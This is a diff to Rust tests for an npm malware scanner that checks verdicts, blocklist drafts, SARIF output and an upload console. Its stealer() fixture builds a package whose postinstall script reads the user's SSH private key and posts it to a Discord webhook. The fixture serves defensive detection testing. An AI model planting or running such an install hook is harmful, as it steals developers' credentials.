@@ -27,32 +27,40 @@ fn analyse(s: &Scioc, paths: &[&Path]) -> (Option<i32>, Vec<Value>, String) {
     (out.status.code(), lines, String::from_utf8_lossy(&out.stderr).into_owned())
 }
 
+/// A stealer run at install: reads an SSH key, posts it to a Discord webhook.
+fn stealer() -> Vec<u8> {
+    tgz(&[
+        (
+            "package/package.json",
+            r#"{"name":"evil-helper","version":"1.0.0","scripts":{"postinstall":"node lib/setup.js"}}"#,
+        ),
+        (
+            "package/lib/setup.js",
+            "const https = require('https');\nconst fs = require('fs');\nconst os = require('os');\nconst key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\nconst req = https.request('https://discord.com/api/webhooks/123456789/abcdefghijkl', { method: 'POST' });\nreq.end(key);\n",
+        ),
+        ("package/index.js", "module.exports = (a, b) => a + b;\n"),
+    ])
+}
+
+/// A harmless package with an install hook and a process call.
+fn adder() -> Vec<u8> {
+    tgz(&[
+        ("package/package.json", r#"{"name":"adder","version":"1.0.0","scripts":{"postinstall":"node-gyp rebuild"}}"#),
+        (
+            "package/index.js",
+            "const { execSync } = require('child_process');\nmodule.exports = () => execSync('git rev-parse HEAD').toString();\n",
+        ),
+    ])
+}
+
 #[test]
 fn a_stealer_at_install_is_named_with_its_file_and_evidence_and_a_clean_package_is_clean() {
     let s = Scioc::new();
     let dir = s.dir.path();
     let evil = dir.join("evil-helper-1.0.0.tgz");
-    std::fs::write(
-        &evil,
-        tgz(&[
-            ("package/package.json", r#"{"name":"evil-helper","version":"1.0.0","scripts":{"postinstall":"node lib/setup.js"}}"#),
-            (
-                "package/lib/setup.js",
-                "const https = require('https');\nconst fs = require('fs');\nconst os = require('os');\nconst key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\nconst req = https.request('https://discord.com/api/webhooks/123456789/abcdefghijkl', { method: 'POST' });\nreq.end(key);\n",
-            ),
-            ("package/index.js", "module.exports = (a, b) => a + b;\n"),
-        ]),
-    )
-    .unwrap();
+    std::fs::write(&evil, stealer()).unwrap();
     let clean = dir.join("adder-1.0.0.tgz");
-    std::fs::write(
-        &clean,
-        tgz(&[
-            ("package/package.json", r#"{"name":"adder","version":"1.0.0","scripts":{"postinstall":"node-gyp rebuild"}}"#),
-            ("package/index.js", "const { execSync } = require('child_process');\nmodule.exports = () => execSync('git rev-parse HEAD').toString();\n"),
-        ]),
-    )
-    .unwrap();
+    std::fs::write(&clean, adder()).unwrap();
 
     let (code, out, err) = analyse(&s, &[&evil, &clean]);
     assert_eq!(code, Some(1), "{err}");
@@ -178,4 +186,200 @@ fn popular_packages_are_clean() {
     for a in &out {
         assert_eq!(a["verdict"], "clean", "{a:#}");
     }
+}
+
+/// `ingest sample` names the sample by the analysis: the archive under the package's threat
+/// name, the malicious file under its own, the harmless files not listed; a clean archive is
+/// refused unless `--force`, and `--threat-name` overrides the name.
+#[tokio::test]
+async fn ingest_sample_is_named_by_the_analysis_and_a_clean_archive_needs_force() {
+    let s = Scioc::new();
+    s.add_user("alice", "reader");
+    let dir = s.dir.path();
+    let evil = dir.join("evil-helper-1.0.0.tgz");
+    std::fs::write(&evil, stealer()).unwrap();
+    let clean = dir.join("adder-1.0.0.tgz");
+    std::fs::write(&clean, adder()).unwrap();
+
+    // Clean: refused with the verdict, nothing stored, even beside a malicious archive.
+    let out = s.run(&["ingest", "sample", evil.to_str().unwrap(), clean.to_str().unwrap()], "");
+    assert_eq!(out.status.code(), Some(1));
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("adder-1.0.0.tgz") && err.contains("finds it clean") && err.contains("--force"), "{err}");
+    assert!(err.contains("nothing was imported"), "{err}");
+
+    let said = s.ok(&["ingest", "sample", evil.to_str().unwrap()], "");
+    assert!(said.contains("Script-JS.Infostealer.SupplyChain (level 5)"), "{said}");
+    let out = s.run(&["ingest", "sample", "--force", clean.to_str().unwrap()], "");
+    assert_eq!(out.status.code(), Some(0));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("because of --force"), "{out:?}");
+
+    crate::support::next_second().await;
+    let server = s.serve(&[]);
+    let page = server
+        .client()
+        .as_user("alice")
+        .page(&format!("{}/utc/2011-03-29T00:00:00?format=json", crate::support::FEED))
+        .await;
+    let e = &page.feed().entries;
+    assert_eq!(e.len(), 2);
+    let samples = e[0]["sample_list"].as_array().unwrap();
+    let names: Vec<(&str, &str)> =
+        samples.iter().map(|x| (x["threat_name"].as_str().unwrap(), x["threat_level"].as_str().unwrap())).collect();
+    assert_eq!(names, [("Script-JS.Infostealer.SupplyChain", "5"), ("Script-JS.Infostealer.SupplyChain", "5")]);
+    assert_eq!(
+        e[0]["scioc"]["provenance"]["files"],
+        serde_json::json!(["evil-helper-1.0.0.tgz", "package/lib/setup.js"]),
+        "the archive and its malicious file; index.js and package.json are not announced"
+    );
+    // Forced: every file, under the default name.
+    assert_eq!(e[1]["sample_list"].as_array().unwrap().len(), 3);
+    assert_eq!(e[1]["sample_list"][1]["threat_name"], "Malicious.SupplyChain");
+
+    // An override names every sample, still only the malicious files.
+    let t = Scioc::new();
+    t.ok(
+        &[
+            "ingest",
+            "sample",
+            "--threat-name",
+            "Script-JS.Backdoor.SupplyChain",
+            "--threat-level",
+            "4",
+            evil.to_str().unwrap(),
+        ],
+        "",
+    );
+    let status: Value = serde_json::from_str(&t.ok(&["status", "--format", "json"], "")).unwrap();
+    assert_eq!(status["events"], 1);
+}
+
+/// `--candidates` drafts a file `candidates validate` accepts unchanged: the version for the
+/// blacklist (strong evidence) and the webhook and domain it sends to.
+#[test]
+fn analyze_drafts_candidates_that_validate() {
+    let s = Scioc::new();
+    let dir = s.dir.path();
+    let evil = dir.join("evil-helper-1.0.0.tgz");
+    std::fs::write(&evil, stealer()).unwrap();
+    let clean = dir.join("adder-1.0.0.tgz");
+    std::fs::write(&clean, adder()).unwrap();
+    let draft = dir.join("draft.json");
+    let out = s.run(
+        &["analyze", "--candidates", draft.to_str().unwrap(), evil.to_str().unwrap(), clean.to_str().unwrap()],
+        "",
+    );
+    assert_eq!(out.status.code(), Some(1));
+    let c: Vec<Value> = serde_json::from_slice(&std::fs::read(&draft).unwrap()).unwrap();
+    let pkg = c.iter().find(|x| x["ioc_type"] == "package_name").expect("a package candidate");
+    assert_eq!((pkg["value"].as_str(), pkg["promote_to"].as_str()), (Some("evil-helper"), Some("blacklist")));
+    assert_eq!(pkg["affected_versions"], serde_json::json!(["1.0.0"]));
+    assert_eq!((pkg["action"].as_str(), pkg["severity"].as_str()), (Some("BLOCK"), Some("CRITICAL")));
+    let reason = pkg["reason"].as_str().unwrap();
+    assert!(reason.contains("SA-") && reason.contains("package/lib/setup.js:"), "{reason}");
+    assert!(pkg["source"].as_str().unwrap().starts_with("urn:scioc:analysis:sha256:"));
+    assert!(
+        c.iter().any(|x| x["ioc_type"] == "domain" && x["value"] == "discord.com" && x["promote_to"] == "npm_iocs")
+    );
+    assert!(c.iter().any(|x| x["ioc_type"] == "url"
+        && x["value"].as_str().unwrap().starts_with("https://discord.com/api/webhooks/123456789")));
+    assert!(c.iter().all(|x| x["value"] != "adder"), "a clean package drafts nothing");
+    s.ok(&["candidates", "validate", draft.to_str().unwrap()], "");
+}
+
+/// `--format sarif`: one log, every rule described, one result per finding at its file.
+#[test]
+fn analyze_writes_sarif() {
+    let s = Scioc::new();
+    let evil = s.dir.path().join("evil-helper-1.0.0.tgz");
+    std::fs::write(&evil, stealer()).unwrap();
+    let out = s.run(&["analyze", "--format", "sarif", evil.to_str().unwrap()], "");
+    assert_eq!(out.status.code(), Some(1));
+    let log: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(log["version"], "2.1.0");
+    let run = &log["runs"][0];
+    let rules: Vec<&str> =
+        run["tool"]["driver"]["rules"].as_array().unwrap().iter().map(|r| r["id"].as_str().unwrap()).collect();
+    assert!(rules.contains(&"SA-011") && rules.contains(&"SA-100"), "{rules:?}");
+    let results = run["results"].as_array().unwrap();
+    let webhook = results.iter().find(|r| r["ruleId"] == "SA-011").expect("the webhook finding");
+    assert_eq!(webhook["level"], "error");
+    assert_eq!(rules[webhook["ruleIndex"].as_u64().unwrap() as usize], "SA-011");
+    assert_eq!(webhook["locations"][0]["logicalLocations"][0]["fullyQualifiedName"], "package/lib/setup.js:5");
+    assert!(webhook["message"]["text"].as_str().unwrap().contains("evil-helper@1.0.0 is malicious"));
+}
+
+/// The server analyses an uploaded archive (admins only), keeps it, and shows it in the
+/// console with its evidence; a sample upload of a clean archive needs `force=true`.
+#[tokio::test]
+async fn the_server_analyses_uploads_and_the_console_shows_the_evidence() {
+    use reqwest::Method;
+    let s = Scioc::new();
+    s.add_user("root", "admin");
+    s.add_user("alice", "reader");
+    let server = s.serve(&[]);
+    let admin = server.client().as_user("root");
+    let reader = server.client().as_user("alice");
+    let post = |c: &crate::support::Client, path: &str, body: Vec<u8>| {
+        let (c, path) = (c.clone(), path.to_owned());
+        async move { c.request(Method::POST, &path).body(body).send().await.unwrap() }
+    };
+    assert_eq!(post(&reader, "/api/scioc/v1/analyses?filename=e-1.0.0.tgz", stealer()).await.status(), 403);
+    let r = post(&admin, "/api/scioc/v1/analyses?filename=evil-helper-1.0.0.tgz", stealer()).await;
+    assert_eq!(r.status(), 200);
+    let v: Value = r.json().await.unwrap();
+    let a = &v["analysis"];
+    assert_eq!(
+        (a["verdict"].as_str(), a["files"][0]["path"].as_str()),
+        (Some("malicious"), Some("package/lib/setup.js"))
+    );
+    assert_eq!(v["kept"], false);
+    let sha = a["sha256"].as_str().unwrap().to_owned();
+    assert_eq!(v["console"], format!("/analyses/{sha}"));
+    // The same bytes again: the kept analysis.
+    let again: Value =
+        post(&admin, "/api/scioc/v1/analyses?filename=evil-helper-1.0.0.tgz", stealer()).await.json().await.unwrap();
+    assert_eq!((again["kept"].as_bool(), &again["analysis"]["score"]), (Some(true), &a["score"]));
+
+    let kept: Value = admin.get(&format!("/api/scioc/v1/analyses/{sha}")).await.json().await.unwrap();
+    assert_eq!(kept["findings"], a["findings"]);
+    assert_eq!(admin.get(&format!("/api/scioc/v1/analyses/{}", "0".repeat(64))).await.status(), 404);
+    assert_eq!(admin.get("/api/scioc/v1/analyses/not-a-hash").await.status(), 400);
+
+    let page = admin.get(&format!("/analyses/{sha}")).await;
+    assert_eq!(page.status(), 200);
+    let html = page.text().await.unwrap();
+    for want in [
+        "evil-helper@1.0.0",
+        "malicious",
+        "Script-JS.Infostealer.SupplyChain",
+        "SA-011",
+        "package/lib/setup.js",
+        "discord.com",
+    ] {
+        assert!(html.contains(want), "{want} in the console page");
+    }
+    let home = admin.get("/").await.text().await.unwrap();
+    assert!(home.contains(&format!("/analyses/{sha}")), "the console lists the analysis");
+    assert_eq!(server.client().get(&format!("/analyses/{sha}")).await.status(), 401);
+
+    // Bad input: a hostile archive is refused by name, nothing kept.
+    let r = post(&admin, "/api/scioc/v1/analyses?filename=x-1.0.0.tgz", b"not gzip".to_vec()).await;
+    assert_eq!(r.status(), 400);
+    assert!(r.text().await.unwrap().contains("x-1.0.0.tgz"));
+
+    // A clean sample upload: 409 with the verdict, then accepted with force=true.
+    let r = post(&admin, "/api/scioc/v1/samples?filename=adder-1.0.0.tgz", adder()).await;
+    assert_eq!(r.status(), 409);
+    assert!(r.text().await.unwrap().contains("finds it clean"));
+    let r = post(&admin, "/api/scioc/v1/samples?filename=adder-1.0.0.tgz&force=true", adder()).await;
+    assert_eq!(r.status(), 200);
+    let v: Value = r.json().await.unwrap();
+    assert_eq!(v["archive"]["named_by"], "forced over a clean verdict");
+    let r = post(&admin, "/api/scioc/v1/samples?filename=evil-helper-1.0.0.tgz", stealer()).await;
+    let v: Value = r.json().await.unwrap();
+    assert_eq!(
+        (v["archive"]["threat_name"].as_str(), v["archive"]["files_listed"].as_u64()),
+        (Some("Script-JS.Infostealer.SupplyChain"), Some(1))
+    );
 }
